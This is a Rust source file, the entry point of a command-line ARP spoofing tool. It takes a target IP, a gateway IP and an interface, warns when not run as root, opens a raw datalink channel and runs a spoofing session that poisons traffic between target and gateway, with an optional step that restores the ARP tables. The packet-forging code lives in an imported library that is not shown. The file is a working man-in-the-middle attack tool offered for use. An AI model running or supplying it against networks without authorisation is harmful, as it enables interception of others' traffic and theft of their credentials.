#[macro_use] extern crate log;

use std::io::Write;

use chrono::Local;
use lib_arp::*;

fn main() {

    let args: Vec<String> = std::env::args().skip(1).collect();
    let config = match SpoofConfig::from_args(&args) {
        Ok(config) => config,
        Err(e) => {
            println!("{}", e);
            show_usage();
            std::process::exit(1);
        }
    };

    init_logger();
    is_user_sudo();

    let runtime = match tokio::runtime::Builder::new_current_thread().enable_all().build() {
        Ok(rt) => rt,
        Err(e) => {
            error!("Error: {}", e);
            std::process::exit(1);
        }
    };

    match runtime.block_on(spoof(config)) {
        Ok(()) => std::process::exit(0),
        Err(e) => {
            error!("Error: {}", e);
            std::process::exit(1);
        }
    }
}

async fn spoof(config: SpoofConfig) -> ArpResult<()> {
    let mut signals = ShutdownSignals::install()?;

    let wanted = config.clone();
    let session = match establish_until(move || SpoofSession::establish(&wanted), signals.wait()).await? {
        Some(session) => session,
        None => return Ok(()),
    };
    let tx = DatalinkTransmitter::open(&session)?;

    let restorer: Box<dyn Restorer> = if config.restore {
        Box::new(HealingRestorer)
    } else {
        Box::new(NoopRestorer)
    };

    println!("Spoofing {} <-> {}...", session.target.address, session.gateway.address);

    run_session(&session, config.interval, tx, restorer.as_ref(), signals.wait()).await?;
    Ok(())
}

fn init_logger() {
    env_logger::Builder::from_env(env_logger::Env::default().default_filter_or("info"))
        .format(|buf, record| {
            writeln!(buf, "{} - {} - {}", Local::now().format("%Y-%m-%d %H:%M:%S,%3f"), record.level(), record.args())
        })
        .init();
}

fn is_user_sudo(){
    if users::get_effective_uid() != 0 {
        warn!("not running as root; opening a raw datalink channel will probably fail");
    }
}

fn show_usage(){
    println!("\nUsage:");
    println!("sudo ./arpspoof <TARGET_IP> <GATEWAY_IP> [INTERFACE] [--interval <SECONDS>] [--restore]\n");
}
